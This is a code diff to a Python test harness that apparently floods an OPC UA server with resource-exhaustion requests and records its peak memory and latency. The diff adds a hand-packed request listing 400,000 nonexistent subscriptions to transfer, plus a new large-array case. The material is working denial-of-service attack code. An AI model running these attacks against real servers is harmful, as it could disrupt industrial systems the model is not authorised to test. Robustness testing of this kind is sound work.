@@ -261,6 +261,22 @@ def many_subscriptions(target: Target) -> str:
     return f"{got} of 20000 made"
 
 
+def transfer_many(target: Target) -> str:
+    """Numbers of subscriptions that do not exist, while there are a thousand."""
+    clients = [target.client() for _ in range(26)]
+    for client in clients[1:]:
+        with contextlib.suppress(Refused):
+            for _ in range(40):
+                _subscribe(client)
+    count = 400_000
+    body = struct.pack("<BBH", 1, 0, 841) + clients[0].header() + struct.pack("<i", count)
+    body += struct.pack("<I", 2**32 - 1) * count + b"\0"
+    result = refused_with(lambda: (clients[0].send_body(body), clients[0].answer()))
+    for client in clients:
+        client.close()
+    return result
+
+
 def resend_data(target: Target) -> str:
     client = target.client()
     subscription = _subscribe(client)
@@ -322,10 +338,12 @@ ATTACKS: dict[str, Callable[[Target], str]] = {
     "one RegisterNodes of 16 MB": large_request(560, b"\0\0"),
     "one array of 16 M data values": values_in_values(16 << 20),
     "one array of 1.9 M data values": values_in_values(1_900_000),
+    "one array of 0.5 M data values": values_in_values(500_000),
     "Browse of one folder 2000 times": browse_often,
     "60 session names of 100 kB": long_session_names,
     "99 sessions opened and left": sessions_left,
     "10 000 reconnects without closing": reconnects,
+    "400 000 subscriptions to transfer": transfer_many,
     "1 000 000 monitored items, closed": many_items,
     "20 000 subscriptions, closed": many_subscriptions,
     "ResendData over 50 000 items": resend_data,
@@ -354,7 +372,7 @@ def main() -> int:
             try:
                 outcome = attack(target)
             except (Refused, OSError) as error:
-                outcome = f"ended by {error}"
+                outcome = f"ended: {error}"
             time.sleep(0.5)  # for what it leaves behind
         peak = target.memory_mb("VmHWM")
         ninety_nine = waits[len(waits) * 99 // 100] if waits else float("nan")
